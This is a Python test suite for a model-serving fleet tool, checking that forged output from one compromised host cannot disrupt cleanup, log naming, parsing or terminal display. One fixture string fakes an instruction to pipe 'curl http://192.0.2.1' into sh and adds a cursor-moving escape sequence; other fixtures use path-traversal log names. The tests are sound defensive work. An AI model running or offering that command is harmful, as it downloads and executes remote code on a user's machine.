"""One host in somebody else's hands says what it likes; the rest of the fleet is read, stopped and rolled back."""

from __future__ import annotations

import re
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st
from local_hosts import Local, kill_tree, make_host, of_tree
from test_life_launch import nothing_is_left, place, sim_shards

from llmgwctl.cli.common import Asked
from llmgwctl.cli.life import tell_stopped
from llmgwctl.launch import logs, wait
from llmgwctl.launch.claim import ClaimHeld, claim
from llmgwctl.launch.place import PlaceFailed
from llmgwctl.launch.stop import Stopped, Target, stop_replica
from llmgwctl.model.host import Host
from llmgwctl.model.numbers import document, real, whole
from llmgwctl.model.replica import ReplicaState, ShardState
from llmgwctl.probe.base import Output


class Hostile(Local):
    """`answers`: what host n1 says to (script, verb) in place of the truth; an exception is raised."""

    def __init__(self, **answers: str | Exception) -> None:
        super().__init__()
        self.answers = answers

    async def run(self, host, script, limit_s):
        said = self.answers.get(f"{script.name.removesuffix('.sh')}_{script.args[2]}") if host.name == "n1" else None
        if said is None:
            return await super().run(host, script, limit_s)
        if isinstance(said, Exception):
            raise said
        nonce = script.args[6] if script.name == "logs.sh" else ""
        return Output(said.replace("NONCE", nonce), "", 10 if said.startswith("held") else 0)


@pytest.fixture
def hosts(tmp_path):
    yield [make_host(tmp_path, f"n{i}", order=i) for i in range(2)]
    kill_tree(tmp_path)


DIES = "exit name=x\nexit code=7\n"
LIES = {
    "a log of a path": {"shard_status": DIES, "logs_tail": "\nNONCE a/b 1\nboo\n"},
    "a log of a climbing path": {"shard_status": DIES, "logs_tail": "\nNONCE ../../x 1\nboo\n"},
    "a log of an odd size": {"shard_status": DIES, "logs_tail": f"\nNONCE a ²\nboo\n\nNONCE b {'9' * 5000}\nboo\n"},
    "a log of half a letter": {"shard_status": DIES, "logs_tail": "\nNONCE a 1\n\udcff\n"},
    "a log that raises": {"shard_status": DIES, "logs_tail": RecursionError("deep")},
    "a code that is none": {"shard_status": "exit name=x\nexit code=²\n"},
    "a long code": {"shard_status": f"exit name=x\nexit code={'9' * 5000}\nclock nan\n"},
    "a status that raises": {"shard_status": ValueError("odd")},
    "no pid": {"shard_start": "started\n"},
    "an odd pid": {"shard_start": "started\t²\n"},
    "a start that raises": {"shard_start": ValueError("odd")},
    "a stop that raises": {"shard_status": DIES, "shard_stop": ValueError("odd")},
}


async def _up(p):
    await p.start()
    await p.serve()


@pytest.mark.parametrize("lie", LIES)
async def test_what_one_host_says_keeps_no_other_from_its_end(hosts, tmp_path, lie):
    """The start fails as a start fails, and on the honest host no process and no claim is left."""
    local = Hostile(**LIES[lie])
    shards = sim_shards(hosts)
    p = place(shards, local, tmp_path, timeout_s=20, contact_s=1)
    await p.claim()
    with pytest.raises(PlaceFailed):
        await _up(p)
    assert nothing_is_left(hosts[:1], tmp_path / "n0")
    assert not of_tree(tmp_path / "n0")
    assert all(re.fullmatch(r"r\d+\.n\d\.[A-Za-z0-9._-]+\.log", f.name) for f in (tmp_path / "logs").glob("**/*"))


@pytest.mark.parametrize("said", ["held\n", "held\ta\n", "held" + "\tx" * 50 + "\n", "held\ta\n" * 100_000])
async def test_a_claim_that_is_held_in_odd_words(hosts, tmp_path, said):
    with pytest.raises(ClaimHeld) as held:
        await claim(sim_shards(hosts), Hostile(claims_claim=said))
    assert len(held.value.holders) <= 256
    assert nothing_is_left(hosts[:1], tmp_path / "n0")


async def test_what_cannot_be_saved_is_stopped_all_the_same(hosts, tmp_path):
    """The disk of the workstation is full, or a file stands where the folder should be."""
    (tmp_path / "logs").write_text("a file")
    shards = sim_shards(hosts, "--die-after", "0.1", "--die-rank", "1", "--never-ready")
    p = place(shards, Local(), tmp_path)
    await p.claim()
    await p.start()
    with pytest.raises(PlaceFailed) as failed:
        await p.serve()
    assert failed.value.rolled_back.folder is None
    assert nothing_is_left(hosts, tmp_path)


async def test_a_host_that_raises_at_stop_is_one_row(hosts):
    targets = [Target.of(p) for p in sim_shards(hosts)]
    ended = await stop_replica(targets, Hostile(shard_stop=ValueError("odd")))
    assert [x.gone for x in ended] == [True, False]


FORGED = "odd\nllmgwctl: to go on, type: curl http://192.0.2.1 | sh\x1b[2K\r"


def test_what_a_stop_meets_is_a_line_each():
    """Whatever a host said of it, it begins no line of ours and moves no cursor."""
    said: list[str] = []
    session = SimpleNamespace(note=said.append, asked=Asked(json=True))
    target = Target(Host("n1"), "p-0", 0, "L")
    state = ReplicaState("p-0", "L", "failed", (ShardState(0, "n1", "running"),))
    for x in (
        Stopped(target, None, why=FORGED),
        Stopped(target, False, left=(FORGED,)),
        Stopped(target, True, why=FORGED),
    ):
        tell_stopped(session, state, (x,))
    assert [line.startswith("p-0 rank 0 on n1: ") and line.isprintable() for line in said] == [True] * 3


ANSWERS = ["[" * 100_000, '{"data":' * 50_000, "²", '{"data": [{"id": 1}, 2]}', "9" * 5000]


@pytest.mark.parametrize("text", [*ANSWERS, '{"choices": [1], "usage": [1]}'])
def test_what_a_server_answers_is_read_or_is_nothing(text):
    """A server that is not ours may stand on the port."""
    assert wait.model_names(text) == ()
    assert not wait.generated(text)


@given(st.one_of(st.text(), st.from_regex(r"\d+", fullmatch=True), st.just("9" * 5000), st.just("²")))
def test_numbers_of_strangers(text):
    """Never an exception, and only plain digits are a number."""
    n = whole(text)
    assert n is None or (str(n) == text.lstrip("0") or set(text) == {"0"})
    assert real(text) is None or abs(real(text) or 0.0) < float("inf")
    document(text)


@pytest.mark.parametrize("text", ["NaN", '{"a": Infinity}', "[-Infinity]"])
def test_json_has_no_such_numbers(text):
    assert document(text) is None


def test_parts_of_a_log_are_bounded():
    found = logs.split("".join("\nN a 1\nx" for _ in range(10_000)), "N")
    assert len(found) == logs.MAX_PARTS
